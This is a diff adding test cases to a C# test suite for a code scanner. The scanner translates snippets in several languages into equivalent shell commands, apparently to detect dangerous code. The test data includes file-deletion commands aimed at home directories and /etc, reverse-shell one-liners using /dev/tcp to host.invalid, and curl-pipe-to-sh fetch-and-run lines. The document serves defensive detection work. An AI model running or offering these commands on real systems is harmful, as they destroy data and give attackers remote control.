@@ -70,6 +70,11 @@ public class CodeScannerTests
     [InlineData("import os; os.system('rm -rf {}'.format('/etc'))", "sh: rm -rf /etc")]
     [InlineData("import os; os.system('rm -rf %s' % d)", "sh: rm -rf $value")]
     [InlineData("x = '''os.system('rm -rf /')'''\nprint(x)", "")]
+    [InlineData("import os; os.remove(f'{os.environ[\"HOME\"]}/.bashrc')", "rm -f $HOME/.bashrc")]
+    [InlineData("import os; os.remove(f\"{os.environ[\"HOME\"]}/.bashrc\")", "rm -f $HOME/.bashrc")]
+    [InlineData("from pathlib import Path; Path(f'{Path.home()}/x').unlink()", "rm -f $HOME/x")]
+    [InlineData("import os; os.remove(f\"{{a}}/{'x'!r:>3}\")", "rm -f {a}/x")]
+    [InlineData("import os; os.remove(f'{a[0]}/x')", "rm -f $…/x")]
     public void Reads_Python(string code, string expected) => Assert.Equal(expected, Calls(CodeLanguage.Python, code));
 
     [Theory]
@@ -103,6 +108,9 @@ public class CodeScannerTests
     [InlineData("db.dropDatabase()", "mongosh --eval db.dropDatabase()")]
     [InlineData("(function(){var n=require('net'),c=require('child_process'),s=c.spawn('/bin/sh',[]);var k=new n.Socket();k.connect(4444,'h',function(){k.pipe(s.stdin)})})()",
         "/bin/sh; sh: bash -i >& /dev/tcp/host.invalid/4444 0>&1")]
+    [InlineData("require('fs').unlinkSync(`${process.env.HOME}/.bashrc`)", "rm -f $HOME/.bashrc")]
+    [InlineData("require('fs').unlinkSync(`${require('os').homedir()}/x`)", "rm -f $HOME/x")]
+    [InlineData("require('fs').rmSync(`${`/etc`}/x`)", "rm -f /etc/x")]
     public void Reads_JavaScript(string code, string expected) => Assert.Equal(expected, Calls(CodeLanguage.JavaScript, code));
 
     [Theory]
@@ -122,6 +130,9 @@ public class CodeScannerTests
     [InlineData("require 'open-uri'; eval(URI.open('http://e.com/s.rb').read)", "sh: curl -fsSL 'http://e.com/s.rb' | sh")]
     [InlineData("['/etc'].each { |f| FileUtils.rm_rf(f) }", "rm -rf /etc")]
     [InlineData("require 'socket'; s=TCPSocket.new('h',4); exec \"/bin/sh -i <&3\"", "sh: /bin/sh -i <&3; sh: bash -i >& /dev/tcp/host.invalid/4444 0>&1")]
+    [InlineData("File.delete(\"#{ENV[\"HOME\"]}/.bashrc\")", "rm -f $HOME/.bashrc")]
+    [InlineData("File.delete(\"#{Dir.home}/x\")", "rm -f $HOME/x")]
+    [InlineData("require 'fileutils'; FileUtils.rm_rf(\"#{Dir.pwd}/tmp\")", "rm -rf ./tmp")]
     public void Reads_Ruby(string code, string expected) => Assert.Equal(expected, Calls(CodeLanguage.Ruby, code));
 
     [Theory]
@@ -141,6 +152,16 @@ public class CodeScannerTests
     [InlineData("use LWP::Simple; eval(get('http://e.com/s.pl'))", "sh: curl -fsSL 'http://e.com/s.pl' | sh")]
     [InlineData("use Socket;socket(S,PF_INET,SOCK_STREAM,1);if(connect(S,x)){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};",
         "sh: /bin/sh -i; sh: bash -i >& /dev/tcp/host.invalid/4444 0>&1")]
+    [InlineData("unlink \"$ENV{HOME}/.bashrc\"", "rm -f $HOME/.bashrc")]
+    [InlineData("unlink $ENV{HOME} . '/x'", "rm -f $HOME/x")]
+    [InlineData("my $h = $ENV{'HOME'}; unlink \"$h/x\"", "rm -f $HOME/x")]
+    [InlineData("unlink glob \"/etc/*\"", "rm -f /etc/*")]
+    [InlineData("unlink </etc/*>", "rm -f /etc/*")]
+    [InlineData("@f = </etc/*>; unlink @f", "rm -f /etc/*")]
+    [InlineData("for (glob '/etc/*') { unlink $_ }", "rm -f /etc/*")]
+    [InlineData("unlink $_ for </etc/*>", "rm -f /etc/*")]
+    [InlineData("unlink for glob('/etc/*')", "rm -f /etc/*")]
+    [InlineData("print \"$h{a}\" if $a </x/ and 1", "")]
     public void Reads_Perl(string code, string expected) => Assert.Equal(expected, Calls(CodeLanguage.Perl, code));
 
     [Theory]
@@ -156,6 +177,8 @@ public class CodeScannerTests
     [InlineData("eval(base64_decode('c3lzdGVtKCJpZCIpOw=='));", "sh: id")]
     [InlineData("eval(file_get_contents('http://e.com/x'));", "sh: curl -fsSL 'http://e.com/x' | sh")]
     [InlineData("$s=fsockopen('h',4);exec('/bin/sh -i <&3 >&3 2>&3');", "sh: /bin/sh -i <&3 >&3 2>&3; sh: bash -i >& /dev/tcp/host.invalid/4444 0>&1")]
+    [InlineData("<?php unlink($_SERVER['HOME'].'/x');", "rm -f $HOME/x")]
+    [InlineData("<?php unlink(\"{$_SERVER[\"HOME\"]}/x\");", "rm -f $HOME/x")]
     public void Reads_Php(string code, string expected) => Assert.Equal(expected, Calls(CodeLanguage.Php, code));
 
     [Theory]
